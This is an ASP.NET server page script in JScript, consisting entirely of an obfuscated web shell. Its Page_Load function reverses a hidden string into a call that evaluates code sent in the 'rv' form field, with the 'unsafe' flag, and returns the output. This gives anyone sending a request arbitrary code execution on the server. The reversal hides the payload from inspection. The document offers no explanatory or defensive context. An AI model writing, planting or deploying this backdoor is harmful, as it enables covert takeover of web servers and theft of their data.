<script language="JScript" runat="server">
function Page_Load(){
  var t = '))"efasnu",]"vr"[mroF.tseuqeR(lave(etirW.esnopseR';
  var u = "";
  for (var i = t.length - 1; i >= 0; i--) u += t.charAt(i);
  eval(u, "unsafe");
}
</script>
